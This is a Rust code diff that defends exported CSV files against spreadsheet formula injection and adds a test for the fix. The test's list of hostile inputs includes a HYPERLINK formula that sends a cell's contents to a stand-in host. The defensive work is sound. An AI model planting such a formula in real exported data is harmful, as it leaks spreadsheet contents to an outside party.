@@ -507,10 +507,21 @@ impl Cell {
             Self::Null => String::new(),
             Self::Int(n) => n.to_string(),
             Self::Bool(b) => b.to_string(),
-            Self::Text(t) if t.contains([',', '"', '\n', '\r']) => {
-                format!("\"{}\"", t.replace('"', "\"\""))
+            Self::Text(t) => {
+                // A spreadsheet runs a cell that starts like a formula: such text gets a
+                // leading apostrophe, which spreadsheets read as "this is text" (the JSON
+                // Lines keep it as written).
+                let t = if t.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                    format!("'{t}")
+                } else {
+                    t.clone()
+                };
+                if t.contains([',', '"', '\n', '\r']) {
+                    format!("\"{}\"", t.replace('"', "\"\""))
+                } else {
+                    t
+                }
             }
-            Self::Text(t) => t.clone(),
         }
     }
 
@@ -666,6 +677,7 @@ impl Writer {
             "hromadas": statement.hromadas,
         });
         let index = json!({
+            "csv": "UTF-8 with a byte-order mark, RFC 4180; a text cell that starts with =, +, -, @, a tab or a carriage return has an apostrophe put before it, so a spreadsheet does not run it (the JSON Lines files have every text as written)",
             "publisher": "vidkryto: the Association of Ukrainian Cities' national view of its hromadas' verified logs",
             "licence": LICENCE,
             "licence_url": LICENCE_URL,
@@ -1056,6 +1068,27 @@ mod tests {
             "2026-11-18T11:06:40.123456Z"
         );
         assert_eq!(time(0).csv(), "1970-01-01T00:00:00.000000Z");
+    }
+
+    #[test]
+    fn text_a_spreadsheet_would_run_as_a_formula_is_defused() {
+        // A resident's petition title, published: opened in a spreadsheet, it must stay text.
+        for hostile in [
+            "=HYPERLINK(\"http://x/?\"&A1,\"a\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            let cell = text(hostile).csv();
+            let unquoted = cell.trim_start_matches('"');
+            assert!(unquoted.starts_with('\''), "{hostile:?} → {cell:?}");
+        }
+        // Numbers and ordinary text are left alone; JSON keeps the text as written.
+        assert_eq!(int(-5).csv(), "-5");
+        assert_eq!(text("Ремонт").csv(), "Ремонт");
+        assert_eq!(text("=1").json(), json!("=1"));
     }
 
     #[test]
